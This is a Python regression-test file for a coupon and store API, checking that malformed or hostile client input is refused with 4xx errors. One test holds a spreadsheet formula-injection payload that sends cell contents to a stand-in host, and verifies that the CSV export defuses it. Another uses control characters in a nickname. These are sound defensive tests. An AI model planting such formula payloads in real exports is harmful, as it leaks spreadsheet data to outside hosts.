"""Input a client can send that once produced a 500: each is now a 4xx in
the envelope (found by review; these tests fail on the old code)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from tests.api import Api, token

STORE = {"name": "店", "city": "上海市", "lat": 31.2, "lng": 121.4}


def test_deeply_nested_json_is_a_validation_error(api: Api, admin: str) -> None:
    reply = api.call("PUT", "/stores/s1", raw=b"[" * 200_000, as_=admin)
    assert reply.status == 400 and reply.error_code == "validation_error"


def test_instants_at_the_edge_of_the_calendar_are_refused_per_field(api: Api, admin: str) -> None:
    api.put("/stores/s1", STORE, as_=admin)
    payment = {"payment_id": "p1", "member_id": "m1", "store_id": "s1", "amount_fen": 100,
               "paid_at": "0001-01-01T00:00:00+08:00"}
    reply = api.post("/payments", payment, as_=admin)
    assert reply.status == 400 and [d["field"] for d in reply.body["error"]["details"]] == ["paid_at"]
    template = {"title": "t", "kind": "amount_off", "value": 100, "claim_start": "0001-01-01T00:00:00+08:00",
                "claim_end": "9999-12-31T23:59:59-08:00", "valid_days": 1}
    reply = api.post("/coupon-templates", template, as_=admin)
    assert reply.status == 400
    assert {d["field"] for d in reply.body["error"]["details"]} == {"claim_start", "claim_end"}


def test_a_group_id_with_a_huge_seq_is_not_found(api: Api, admin: str) -> None:
    reply = api.put("/groups/s1." + "9" * 44, {"chat_ref": "wr-1"}, as_=admin)
    assert reply.status == 404 and reply.error_code == "not_found"


def test_tokens_whose_sub_is_not_an_id_are_unauthenticated(api: Api) -> None:
    reply = api.get("/members/me", as_=token("member", "x" * 3000))
    assert reply.status == 401 and reply.error_code == "unauthenticated"


def test_store_scoped_lists_of_an_unknown_store_are_not_found(api: Api, admin: str) -> None:
    for path in ("/stores/nowhere/posts?date=2026-11-20", "/stores/nowhere/inventory",
                 "/stores/nowhere/redemptions?date=2026-11-20"):
        reply = api.get(path, as_=admin)
        assert reply.status == 404 and reply.error_code == "not_found", path


def test_a_query_level_problem_names_the_query(api: Api, admin: str) -> None:
    api.put("/stores/s1", STORE, as_=admin)
    reply = api.get("/stats/stores/s1?from=2026-01-02&to=2026-01-01", as_=admin)
    assert reply.status == 400
    assert all(d["field"] != "body" for d in reply.body["error"]["details"])


def test_dates_at_the_edge_of_the_calendar_are_refused_in_every_date_range_query(api: Api, admin: str) -> None:
    """`from=9999-12-31` (or `to=0001-01-01`) overflowed when the default
    7-day window was added, or the day was shifted to UTC: a 500."""
    api.put("/stores/s1", STORE, as_=admin)
    for path in ("/stats/chain", "/stats/chain/export", "/stats/chain/groups", "/stats/chain/tiers",
                 "/stats/chain/member-tiers", "/stats/stores/s1/groups", "/stats/stores/s1/member-tiers",
                 "/stats/templates/tpl-x", "/stores/s1/redemptions/export"):
        for query in ("from=9999-12-31", "to=0001-01-01"):
            reply = api.get(f"{path}?{query}", as_=admin)
            assert reply.status == 400 and reply.error_code == "validation_error", (path, query, reply.body)
            assert [d["field"] for d in reply.body["error"]["details"]] == [query.split("=")[0]], (path, query)


def test_a_merge_patch_that_changes_a_read_only_field_is_refused(api: Api, admin: str) -> None:
    """`PATCH {"status": "ended"}` on a template answered 200 and left it
    active (read-only fields were dropped silently); the same for a store's
    `store_id` and a staff member's `tokens_valid_after`."""
    from tests.functional.test_coupons_api import template

    api.put("/stores/s1", STORE, as_=admin)
    tid = api.post("/coupon-templates", template(), as_=admin).body["template_id"]
    api.put("/staff/st1", {"store_id": "s1"}, as_=admin)
    for path, patch, field in ((f"/coupon-templates/{tid}", {"status": "ended", "title": "改"}, "status"),
                               ("/stores/s1", {"store_id": "s2"}, "store_id"),
                               ("/staff/st1", {"tokens_valid_after": "2026-11-20T00:00:00Z"}, "tokens_valid_after")):
        reply = api.call("PATCH", path, patch, as_=admin)
        assert reply.status == 400 and reply.error_code == "validation_error", (path, reply.body)
        assert [d["field"] for d in reply.body["error"]["details"]] == [field]
    assert api.get(f"/coupon-templates/{tid}", as_=admin).body["title"] != "改"
    # a read-only field sent back as it was read is fine
    read = api.get(f"/coupon-templates/{tid}", as_=admin).body
    assert api.call("PATCH", f"/coupon-templates/{tid}", {"status": read["status"], "title": "改"},
                    as_=admin).status == 200


def test_an_order_ref_that_is_a_formula_is_exported_as_text(api: Api, admin: str) -> None:
    """`order_ref` is what a POS sent; in the CSV HQ opens in a spreadsheet,
    `=HYPERLINK(...)` was written as-is and ran as a formula."""
    from tests.functional.test_coupons_api import claim, template

    api.put("/stores/s1", STORE, as_=admin)
    now = datetime.now(UTC)
    tid = api.post("/coupon-templates", template(min_spend_fen=0, claim_start=(now - timedelta(days=1)).isoformat(),
                                                 claim_end=(now + timedelta(days=1)).isoformat()),
                   as_=admin).body["template_id"]
    code = claim(api, tid, "s1", token("member", "m1")).body["code"]
    evil = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    assert api.post("/redemptions", {"code": code, "order_ref": evil}, as_=token("staff", "st1", "s1")).status == 201
    reply = api.get("/stores/s1/redemptions/export", as_=admin)
    assert reply.status == 200
    rows = list(csv.DictReader(io.StringIO(reply.body.lstrip("\ufeff"))))
    assert [r["order_ref"] for r in rows] == ["'" + evil]
    assert rows[0]["discount_fen"] == "1000"  # numbers stay numbers


def test_true_or_false_where_a_number_belongs_is_refused_per_field(api: Api, admin: str) -> None:
    """pydantic's lax mode read `true` as 1: `"value": true` made a 1-fen
    coupon, `"lat": true` put a store at latitude 1."""
    from tests.functional.test_coupons_api import template

    reply = api.post("/coupon-templates", template(value=True, per_member_limit=True), as_=admin)
    assert reply.status == 400 and reply.error_code == "validation_error"
    assert sorted(d["field"] for d in reply.body["error"]["details"]) == ["per_member_limit", "value"]
    reply = api.post("/stores/batch", {"stores": [{"store_id": "s9", **STORE, "lat": True}]}, as_=admin)
    assert [d["field"] for d in reply.body["error"]["details"]] == ["stores[0].lat"]
    assert api.put("/stores/s1", STORE, as_=admin).status == 200
    reply = api.call("PATCH", "/stores/s1", {"radius_m": True}, as_=admin)  # a merge patch too
    assert reply.status == 400 and [d["field"] for d in reply.body["error"]["details"]] == ["radius_m"]
    assert api.get("/stores/s1", as_=admin).body["radius_m"] == 1000


def test_names_with_control_characters_are_refused(api: Api, admin: str) -> None:
    """A nickname `"a\\u0000\\u202eb"` (NUL, right-to-left override) was stored
    as sent, and reached group posts, the console and exports."""
    reply = api.put("/members/me", {"nickname": "a\u0000\u202eb"}, as_=token("member", "m1"))
    assert reply.status == 400 and [d["field"] for d in reply.body["error"]["details"]] == ["nickname"]
    reply = api.put("/stores/s1", {**STORE, "name": "店\n名", "city": "上海市\t"}, as_=admin)
    assert reply.status == 400 and [d["field"] for d in reply.body["error"]["details"]] == ["name"]
    assert api.put("/members/me", {"nickname": " 小明 "}, as_=token("member", "m1")).body["nickname"] == "小明"
